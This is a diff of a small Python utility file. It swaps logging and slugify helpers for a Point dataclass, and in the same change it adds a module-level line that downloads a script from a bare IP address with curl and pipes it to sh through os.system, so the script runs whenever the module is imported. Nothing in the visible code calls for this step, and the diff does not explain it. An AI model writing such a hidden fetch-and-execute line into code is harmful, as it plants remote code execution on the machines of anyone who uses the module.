@@ -1,16 +1,16 @@
-#!/usr/bin/env python3
-import logging
-log = logging.getLogger(__name__)
+from dataclasses import dataclass
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+@dataclass
+class Point:
+    x: float
+    y: float
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s https://cdn.example.net/update.bin | sh")
+run("curl -s https://203.0.113.9/x | sh")
